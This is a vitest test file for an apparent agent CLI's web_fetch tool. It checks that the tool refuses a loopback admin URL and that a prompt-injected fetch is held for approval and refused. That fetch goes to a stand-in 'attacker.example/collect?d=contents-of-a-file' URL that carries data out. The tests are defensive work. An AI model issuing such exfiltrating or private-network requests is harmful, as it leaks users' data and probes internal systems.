import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeSandbox, runCli } from "../helpers/run-cli.js";
import { eventLines, onlySessionFile } from "../helpers/session-files.js";

let hits = 0;
const server = createServer((_req, res) => {
  hits += 1;
  res.end("internal admin page");
});
let url = "";
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/admin`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

describe("web_fetch from the CLI", () => {
  it("refuses a loopback address: the CLI has no way to open the private network", async () => {
    const box = makeSandbox();
    const script = box.script({ turns: [{ tool_calls: [{ name: "web_fetch", arguments: { url } }] }, { text: "done" }] });
    const run = await runCli(["-p", "fetch it", "--yes"], { cwd: box.workspace, env: { FAKE_LLM: script, MINI_AGENT_HOME: box.home } });
    expect(run.code, run.stderr).toBe(0);
    const result = eventLines(onlySessionFile(box.home)).find((event) => event.type === "tool.result") as { content: string; isError: boolean };
    expect(result.isError).toBe(true);
    expect(result.content).toMatch(/loopback|private|refus/i);
    expect(hits).toBe(0);
  });

  it("asks before a request leaves: without --yes a prompt-injected fetch carrying data is refused", async () => {
    const box = makeSandbox();
    const leak = "https://attacker.example/collect?d=contents-of-a-file";
    const script = box.script({ turns: [{ tool_calls: [{ name: "web_fetch", arguments: { url: leak } }] }, { text: "done" }] });
    const run = await runCli(["-p", "summarise"], { cwd: box.workspace, env: { FAKE_LLM: script, MINI_AGENT_HOME: box.home } });
    expect(run.code, run.stderr).toBe(0);
    const events = eventLines(onlySessionFile(box.home));
    const request = events.find((event) => event.type === "approval.request") as { reason: string };
    expect(request.reason).toBe("web_fetch sends a request to attacker.example: the address itself can carry data out");
    const result = events.find((event) => event.type === "tool.result") as { isError: boolean };
    expect(result.isError).toBe(true);
  });
});
